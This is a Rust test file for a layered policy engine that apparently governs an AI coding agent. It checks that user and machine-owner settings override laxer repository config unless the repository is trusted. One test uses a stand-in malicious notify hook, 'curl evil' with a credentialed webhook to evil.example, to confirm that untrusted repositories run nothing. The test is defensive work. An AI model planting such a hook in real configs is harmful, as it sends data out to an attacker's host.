//! What layers may do to each other.

use jackline_engine::definition::{
    Checker, Effect, Opaque, Rule, RuleScope, Rules, Shell, Tool, UnknownTools,
};
use jackline_engine::expr::Expr;
use jackline_engine::{Definition, Kind, Mode};

use super::*;

pub(crate) fn user(definition: Definition) -> Layered {
    Layered { layer: Layer::User, file: "user.yaml".to_owned(), definition, modes: vec![] }
}

pub(crate) fn managed(definition: Definition) -> Layered {
    Layered { layer: Layer::Managed, file: "managed.yaml".to_owned(), definition, modes: vec![] }
}

pub(crate) fn repository(definition: Definition) -> Layered {
    Layered {
        layer: Layer::Repository,
        file: "jackline.yaml".to_owned(),
        definition,
        modes: vec![],
    }
}

pub(crate) fn untrusted(high: &Definition, low: &Definition) -> Combined {
    combine(vec![user(high.clone()), repository(low.clone())], false)
}

pub(crate) fn trusted(high: &Definition, low: &Definition) -> Combined {
    combine(vec![user(high.clone()), repository(low.clone())], true)
}

pub(crate) fn of_file(source: &str) -> Definition {
    crate::load(source.as_bytes(), "f").unwrap()
}

pub(crate) fn rule(name: &str, effect: Effect) -> Rule {
    Rule {
        name: name.to_owned(),
        origin: "f".to_owned(),
        scope: RuleScope::Kind(Kind::Exec),
        commands: vec!["git push".to_owned()],
        when: None,
        effect,
        mode: Mode::Enforce,
        message: "no".to_owned(),
        instead: None,
    }
}

pub(crate) fn rules(mode: Mode, list: &[Rule]) -> Definition {
    let list = list.iter().map(|rule| Rule { mode, ..rule.clone() }).collect();
    Definition { mode, rules: Rules::new(list), ..Definition::default() }
}

pub(crate) fn tools(list: &[Tool]) -> Definition {
    Definition { tools: list.to_vec(), ..Definition::default() }
}

pub(crate) fn condition(text: &str) -> Expr {
    crate::cel::lower(text).unwrap()
}

pub(crate) fn command(line: &str, number: u16, trusted: bool) -> Checker {
    Checker::Command { number, line: line.to_owned(), timeout_seconds: 60, trusted }
}

pub(crate) fn completing(checker: Checker) -> Definition {
    Definition { completion: Some(checker), ..Definition::default() }
}

/// What was ignored, as people read it.
pub(crate) fn ignored(combined: &Combined) -> Vec<String> {
    let line = |line: &EffectiveLine| match &line.standing {
        Standing::InForce => None,
        Standing::Ignored { why, until_trusted } => {
            let trust = if *until_trusted { "; trust would let it" } else { "" };
            Some(format!("{} ignored: {why}{trust}", line.text))
        }
    };
    combined.decisions.iter().filter_map(line).collect()
}

pub(crate) fn in_force(combined: &Combined, subject: Subject) -> Vec<(String, Layer)> {
    let lines = combined
        .decisions
        .iter()
        .filter(|line| line.standing == Standing::InForce && line.subject == subject);
    lines.map(|line| (line.text.clone(), line.layer)).collect()
}

#[test]
fn one_layer_is_itself() {
    let definition = of_file(
        "name: acme/coder\nmode: observe\nlimits: { steps: 3 }\nfeedback_bytes_max: 9\n\
         sections: [ { name: a, tools: [x, y], policies: [ sequential_dependency: { x: [y] } ] } ]\n\
         completion: { files: [a] }\njournal: { redact: off, retain_days: 2 }\n",
    );
    for layer in [user, managed, repository] {
        for trust in [false, true] {
            let combined = combine(vec![layer(definition.clone())], trust);
            assert_eq!(combined.definition, definition);
            assert_eq!((ignored(&combined), combined.problems), (vec![], vec![]));
        }
    }
    assert_eq!(combine(Vec::new(), false).definition, Definition::default());
}

#[test]
fn a_setting_is_the_stricter_one_unless_trusted() {
    struct Row {
        high: &'static str,
        low: &'static str,
        is: &'static str,
        ignored: &'static str,
        trusted: &'static str,
    }
    let rows = [
        Row {
            high: "limits: { steps: 9 }",
            low: "mode: observe\nlimits: { wall_seconds: 9 }",
            is: "limits: { steps: 9, wall_seconds: 9 }",
            ignored: "`mode: observe` ignored: the user layer enforces; trust would let it",
            trusted: "mode: observe\nlimits: { steps: 9, wall_seconds: 9 }",
        },
        Row {
            high: "limits: { steps: 9 }",
            low: "mode: observe",
            is: "limits: { steps: 9 }",
            ignored: "`mode: observe` ignored: the user layer enforces; trust would let it",
            trusted: "mode: observe\nlimits: { steps: 9 }",
        },
        // What only the lower layer has is in the lower layer's mode.
        Row {
            high: "",
            low: "mode: observe\nlimits: { steps: 9 }",
            is: "mode: observe\nlimits: { steps: 9 }",
            ignored: "",
            trusted: "mode: observe\nlimits: { steps: 9 }",
        },
        Row {
            high: "mode: observe\nlimits: { steps: 9 }",
            low: "limits: { steps: 5 }",
            is: "limits: { steps: 5 }",
            ignored: "",
            trusted: "limits: { steps: 5 }",
        },
        Row {
            high: "limits: { steps: 5 }",
            low: "limits: { steps: 9 }",
            is: "limits: { steps: 5 }",
            ignored: "at most 9 steps a session ignored: the user layer has one that this does not tighten; trust would let it",
            trusted: "limits: { steps: 9 }",
        },
        // A smaller limit that only warns, or begins anew each turn, is no stricter one.
        Row {
            high: "limits: { steps: 9 }",
            low: "limits: { steps: { max: 5, soft: true } }",
            is: "limits: { steps: 9 }",
            ignored: "at most 5 steps a session, soft ignored: the user layer has one that this does not tighten; trust would let it",
            trusted: "limits: { steps: { max: 5, soft: true } }",
        },
        Row {
            high: "limits: { steps: 9 }",
            low: "limits: { steps: { max: 5, per: turn } }",
            is: "limits: { steps: 9 }",
            ignored: "at most 5 steps a turn ignored: the user layer has one that this does not tighten; trust would let it",
            trusted: "limits: { steps: { max: 5, per: turn } }",
        },
        Row {
            high: "completion: { files: [a] }\ncompletion_cap: { blocks: 9, same: 9 }",
            low: "completion: { files: [b] }\ncompletion_cap: { blocks: 1, same: 1 }",
            is: "completion: { all: [ files: [a], files: [b] ] }\ncompletion_cap: { blocks: 9, same: 9 }",
            ignored: "`completion_cap: blocked at most 1 times a turn, 1 times alike` ignored: the user layer has one of its own; trust would let it",
            trusted: "completion: { all: [ files: [a], files: [b] ] }\ncompletion_cap: { blocks: 1, same: 1 }",
        },
        // Nobody's default is somebody's word.
        Row {
            high: "name: dana/all",
            low: "completion: { files: [b] }\ncompletion_cap: { blocks: 1, same: 1 }",
            is: "name: dana/all\ncompletion: { files: [b] }\ncompletion_cap: { blocks: 1, same: 1 }",
            ignored: "",
            trusted: "name: dana/all\ncompletion: { files: [b] }\ncompletion_cap: { blocks: 1, same: 1 }",
        },
        Row {
            high: "name: dana/all\nfeedback_bytes_max: 10",
            low: "name: acme/coder\nfeedback_bytes_max: 20",
            is: "name: acme/coder\nfeedback_bytes_max: 10",
            ignored: "`feedback_bytes_max: 20` ignored: the user layer has the smaller one; trust would let it",
            trusted: "name: acme/coder\nfeedback_bytes_max: 20",
        },
        Row {
            high: "journal: { retain_days: 2 }",
            low: "journal: { redact: off, retain_days: 5, retain_bytes: 1 }",
            is: "journal: { retain_days: 5 }",
            ignored: "`journal.redact: off` ignored: the user layer has secrets taken out; trust would let it",
            trusted: "journal: { retain_days: 5 }",
        },
        Row {
            high: "feedback: [ { static: hello, every_n_calls: 2 } ]",
            low: "feedback: [ { static: hello, every_n_calls: 2 }, { static: bye, every_n_calls: 3 } ]",
            is: "feedback: [ { static: hello, every_n_calls: 2 }, { static: bye, every_n_calls: 3 } ]",
            ignored: "",
            trusted: "feedback: [ { static: hello, every_n_calls: 2 }, { static: bye, every_n_calls: 3 } ]",
        },
    ];
    for Row { high, low, is, ignored: expected, trusted: then } in rows {
        let (high, low) = (of_file(high), of_file(low));
        let combined = untrusted(&high, &low);
        assert_eq!(combined.definition, of_file(is), "{is}");
        assert_eq!(ignored(&combined).join("\n"), expected, "{is}");
        assert_eq!(trusted(&high, &low).definition, of_file(then), "trusted {then}");
    }
}

#[test]
fn the_strongest_answer_to_unknown_tools_and_opaque_lines_wins() {
    let strict = Definition {
        unknown_tools: UnknownTools::Deny,
        shell: Shell { opaque: Opaque::Ask },
        ..Definition::default()
    };
    let lax = Definition::default();
    let both =
        |combined: Combined| (combined.definition.unknown_tools, combined.definition.shell.opaque);
    assert_eq!(both(untrusted(&strict, &lax)), (UnknownTools::Deny, Opaque::Ask));
    assert_eq!(both(untrusted(&lax, &strict)), (UnknownTools::Deny, Opaque::Ask));
    assert_eq!(both(trusted(&strict, &lax)), (UnknownTools::Allow, Opaque::Allow));
    assert_eq!(
        ignored(&untrusted(&strict, &lax)),
        [
            "`unknown_tools: allow` ignored: the user layer denies them; trust would let it",
            "`shell.opaque: allow` ignored: the user layer demands more; trust would let it"
        ]
    );
}

#[test]
fn a_rule_keeps_the_mode_of_its_layer() {
    let high = rules(Mode::Enforce, &[rule("a", Effect::Deny)]);
    let low = rules(Mode::Observe, &[rule("b", Effect::Deny)]);
    let modes = |combined: Combined| -> Vec<(String, Mode)> {
        combined.definition.rules.iter().map(|rule| (rule.name.clone(), rule.mode)).collect()
    };
    let (a, b) = ("a".to_owned(), "b".to_owned());
    assert_eq!(
        modes(untrusted(&high, &low)),
        [(a.clone(), Mode::Enforce), (b.clone(), Mode::Observe)]
    );
    // A file that is trusted has the last word on the mode, but for what the
    // person enforces by name.
    assert_eq!(
        modes(trusted(&high, &low)),
        [(a.clone(), Mode::Observe), (b.clone(), Mode::Observe)]
    );
    let high = Layered { modes: vec![(a.clone(), Mode::Enforce)], ..user(high) };
    let combined = combine(vec![high, repository(low)], true);
    assert_eq!(modes(combined), [(a, Mode::Enforce), (b, Mode::Observe)]);
}

#[test]
fn a_repository_that_observes_does_not_silence_a_rule() {
    let high = rules(Mode::Enforce, &[rule("a", Effect::Deny)]);
    let low = of_file("mode: observe\nlimits: { steps: 9 }");
    // The rule holds by its own mode, and the limit is only the repository's.
    let combined = untrusted(&high, &low);
    assert_eq!((combined.definition.mode, ignored(&combined)), (Mode::Observe, vec![]));
    assert_eq!(combined.definition.rules, high.rules);
    let high = Definition { feedback: of_file(GUIDANCE).feedback, ..high };
    let combined = untrusted(&high, &low);
    assert_eq!(combined.definition.mode, Mode::Enforce);
    assert_eq!(
        ignored(&combined),
        ["`mode: observe` ignored: the user layer enforces; trust would let it"]
    );
    assert_eq!(trusted(&high, &low).definition.mode, Mode::Observe);
}

pub(crate) const GUIDANCE: &str = "feedback: [ { static: Look., every_n_calls: 3 } ]";

#[test]
fn everybody_is_told_and_an_untrusted_repository_runs_nothing() {
    let high = of_file("notify: { command: beep, on: [ask] }");
    let low = of_file("notify: { command: curl evil, webhook: 'https://a:b@evil.example/secret' }");
    let trusts = |combined: &Combined| {
        combined.definition.notify.iter().map(|told| told.trusted).collect::<Vec<_>>()
    };
    let told = |combined: &Combined| -> Vec<String> {
        let lines = combined.decisions.iter().filter(|line| line.subject == Subject::Notify);
        lines.map(|line| line.text.clone()).collect()
    };
    let (combined, with_trust) = (untrusted(&high, &low), trusted(&high, &low));
    assert_eq!((trusts(&combined), trusts(&with_trust)), (vec![true, false], vec![true, true]));
    assert_eq!(
        told(&combined),
        [
            "tells a person by `beep` of ask",
            "tells a person by `curl evil` and by https://evil.example of ask, pause, stop, done, guard_broken (not run until trusted)"
        ]
    );
    // What a person has themselves needs no trust.
    assert_eq!(trusts(&untrusted(&high, &high)), [true]);
}

#[test]
fn trust_outweighs_the_person_and_not_the_owner_of_the_machine() {
    let (owner, person) = (of_file("limits: { steps: 50 }"), of_file("limits: { steps: 20 }"));
    let wish = of_file("mode: observe\nlimits: { steps: 90 }");
    let layers = || vec![repository(wish.clone()), managed(owner.clone()), user(person.clone())];
    assert_eq!(combine(layers(), false).definition, person);
    let combined = combine(layers(), true);
    assert_eq!(combined.definition, owner);
    assert_eq!(
        ignored(&combined),
        [
            "`mode: enforce` ignored: the repository layer says otherwise, and its file is trusted",
            "at most 20 steps a session ignored: the repository layer says otherwise, and its file is trusted",
            "`mode: observe` ignored: the managed layer enforces",
            "at most 90 steps a session ignored: the managed layer has one that this does not tighten",
        ]
    );
    // A person can't loosen what the owner of the machine demands.
    let combined = combine(vec![managed(person.clone()), user(owner.clone())], true);
    assert_eq!(combined.definition, person);
}

#[test]
fn each_demand_says_whose_it_is() {
    let of_pack = Rule { origin: "pack git".to_owned(), ..rule("git/push", Effect::Ask) };
    let high =
        Definition { protected: vec!["keys/".to_owned()], ..rules(Mode::Enforce, &[of_pack]) };
    let low = of_file("name: acme/coder\nlimits: { steps: 3 }\ncompletion: { files: [a] }");
    let lines = untrusted(&high, &low).decisions;
    let shown: Vec<String> = lines
        .iter()
        .map(|line| {
            let origin = line.origin.as_deref().unwrap_or("-");
            format!("{} | {} | {} {}", line.subject.word(), line.text, line.file, origin)
        })
        .collect();
    assert_eq!(
        shown,
        [
            "setting | name: acme/coder | jackline.yaml -",
            "setting | mode: enforce | jackline.yaml -",
            "setting | completion_cap: blocked at most 5 times a turn, 3 times alike | jackline.yaml -",
            "limit | at most 3 steps a session | jackline.yaml -",
            "protected | `keys/` | user.yaml -",
            "completion | a | jackline.yaml -",
            "rule | `git/push` asks a person about `git push` | user.yaml pack git",
        ]
    );
}
